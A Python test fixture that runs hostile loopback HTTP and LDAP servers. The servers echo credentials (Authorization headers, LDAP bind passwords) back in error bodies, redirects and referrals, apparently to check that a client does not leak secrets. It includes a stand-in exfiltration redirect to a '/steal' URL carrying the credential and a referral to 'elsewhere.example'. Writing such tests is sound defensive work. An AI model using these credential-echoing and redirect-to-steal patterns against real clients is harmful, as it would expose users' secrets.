"""Hostile servers on loopback for the secret sweep: HTTP servers that echo the request (Authorization header
included) in every shape of failure, and an LDAP server that echoes the bind (password included) in its
diagnostic message.

HTTP modes: ``401``, ``400``, ``500`` (an error body echoing the request in Okta's and Graph's error shapes),
``redirect`` (302 to another origin, the credential in the Location's query), ``timeout`` (answers after
``delay`` seconds), ``malformed`` (200, not JSON), ``nonutf8`` (200, invalid UTF-8), ``oversized`` (200, a
``size``-byte body), ``html`` (200, a sign-in page). LDAP modes: ``bind-echo`` (invalidCredentials),
``referral`` (bind accepted, every search answered with a referral), ``garbage`` (bytes that are not BER),
``silent`` (never answers).
"""

from __future__ import annotations

import json
import socket
import socketserver
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HTTP_MODES = ("401", "400", "500", "redirect", "timeout", "malformed", "nonutf8", "oversized", "html")
LDAP_MODES = ("bind-echo", "referral", "garbage", "silent")


class HostileHTTP:
    """One loopback HTTP server answering every request in one hostile ``mode``."""

    def __init__(self, mode: str, *, delay: float = 3.0, size: int = 200_000) -> None:
        self.mode, self.delay, self.size = mode, delay, size
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:  # noqa: N802
                self.answer()

            def do_POST(self) -> None:  # noqa: N802
                length = int(self.headers.get("Content-Length") or 0)
                self.form = self.rfile.read(length).decode("latin-1") if length else ""
                self.answer()

            def answer(self) -> None:
                echo = f"{self.command} {self.path} " + " ".join(f"{k}: {v}" for k, v in self.headers.items())
                echo += " " + getattr(self, "form", "")
                status, body, ctype, extra = server.respond(echo)
                if status == 0:
                    time.sleep(server.delay)
                    status, body, ctype, extra = 200, b'{"value": []}', "application/json", []
                try:
                    self.send_response(status)
                    self.send_header("Content-Type", ctype)
                    for k, v in extra:
                        self.send_header(k, v)
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)
                except OSError:
                    pass

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.httpd.handle_error = lambda request, address: None  # a client that gave up (timeouts) is expected

    def respond(self, echo: str) -> tuple[int, bytes, str, list[tuple[str, str]]]:
        error = {"errorCode": "E0000011", "errorSummary": f"echo {echo}", "errorCauses": [{"errorSummary": echo}],
                 "error": {"code": "InvalidAuthenticationToken", "message": f"echo {echo}"}}
        if self.mode in ("401", "400", "500"):
            return int(self.mode), json.dumps(error).encode(), "application/json", []
        if self.mode == "redirect":
            return 302, json.dumps(error).encode(), "application/json", [
                ("Location", f"http://127.0.0.2:9/steal?{echo.replace(' ', '+')[:1500]}")]
        if self.mode == "timeout":
            return 0, b"", "", []
        if self.mode == "malformed":
            return 200, f"not json at all: {echo}".encode(), "application/json", []
        if self.mode == "nonutf8":
            return 200, b'{"value": ["\xff\xfe' + echo.encode() + b'"]}', "application/json", []
        if self.mode == "oversized":
            return 200, (echo.encode() + b" ") * (self.size // max(len(echo), 1) + 1), "application/json", []
        if self.mode == "html":
            return 200, f"<html><body>Sign in {echo}</body></html>".encode(), "text/html", []
        raise ValueError(self.mode)

    def __enter__(self) -> HostileHTTP:
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}"


def _ldap_reply(message_id: int, op: str, code: str, diagnostic: str, referral: str | None = None) -> bytes:
    from ldap3.protocol.rfc4511 import (LDAPDN, URI, BindResponse, LDAPMessage, LDAPString, MessageID, ProtocolOp,
                                        Referral, ResultCode, SearchResultDone)
    from pyasn1.codec.ber import encoder

    result = BindResponse() if op == "bindResponse" else SearchResultDone()
    result["resultCode"] = ResultCode(code)
    result["matchedDN"] = LDAPDN("")
    result["diagnosticMessage"] = LDAPString(diagnostic)
    if referral:
        refs = Referral()
        refs.setComponentByPosition(0, URI(referral))
        result["referral"] = refs
    protocol = ProtocolOp()
    protocol.setComponentByName(op, result)
    message = LDAPMessage()
    message["messageID"] = MessageID(message_id)
    message["protocolOp"] = protocol
    return encoder.encode(message)


class HostileLDAP:
    """A loopback TCP server speaking just enough LDAP to be hostile in one ``mode``."""

    def __init__(self, mode: str) -> None:
        self.mode = mode
        server = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                from ldap3.protocol.rfc4511 import LDAPMessage
                from pyasn1.codec.ber import decoder

                sock: socket.socket = self.request
                sock.settimeout(10)
                buffer = b""
                while True:
                    try:
                        chunk = sock.recv(65536)
                    except OSError:
                        return
                    if not chunk:
                        return
                    buffer += chunk
                    try:
                        message, buffer = decoder.decode(buffer, asn1Spec=LDAPMessage())
                    except Exception:
                        continue  # an incomplete message: read on
                    if server.mode == "silent":
                        time.sleep(15)
                        return
                    if server.mode == "garbage":
                        sock.sendall(b"\x30\x84\xff\xff\xff\xffnot BER " + bytes(message["protocolOp"].prettyPrint(),
                                                                              "utf-8")[:500])
                        return
                    echo = message.prettyPrint()  # the bind request, password included
                    op = message["protocolOp"].getName()
                    mid = int(message["messageID"])
                    if op == "bindRequest":
                        code = "invalidCredentials" if server.mode == "bind-echo" else "success"
                        sock.sendall(_ldap_reply(mid, "bindResponse", code, f"echo {echo}"))
                        server.last_bind = echo
                    elif op == "searchRequest":
                        sock.sendall(_ldap_reply(mid, "searchResDone", "referral", f"echo {server.last_bind}",
                                                 referral="ldap://svc:leaked@elsewhere.example/dc=x"))
                    elif op == "unbindRequest":
                        return

        self.last_bind = ""
        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True

    def __enter__(self) -> HostileLDAP:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    @property
    def url(self) -> str:
        return f"ldap://127.0.0.1:{self.server.server_address[1]}"
